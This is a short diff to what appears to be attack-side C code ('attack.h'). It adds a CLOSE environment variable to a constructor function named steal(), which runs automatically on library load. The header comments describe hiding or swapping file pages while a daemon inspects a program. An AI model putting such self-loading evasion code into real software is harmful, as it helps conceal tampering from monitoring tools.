@@ -5,6 +5,7 @@
  *          renamed     puts the file GOOD into its own place again, the file HERE
  *          written     keeps copies of its pages and writes GOOD into its own file HERE
  *          asleep      may not be executed while the daemon looks at the program; no code but the C library's runs then
+ *   CLOSE  a descriptor to be closed
  *   SOCKET, REQUEST
  */
 #include "attack.h"
@@ -119,6 +120,8 @@ static int dial_asleep(void)
 
 __attribute__((constructor)) static void steal(void)
 {
+    if (getenv("CLOSE"))
+        close(atoi(getenv("CLOSE")));
     const char *how = getenv("HIDE") ? getenv("HIDE") : "";
     if (strcmp(how, "anonymous") == 0)
         move_to(MAP_PRIVATE | MAP_ANONYMOUS, -1);
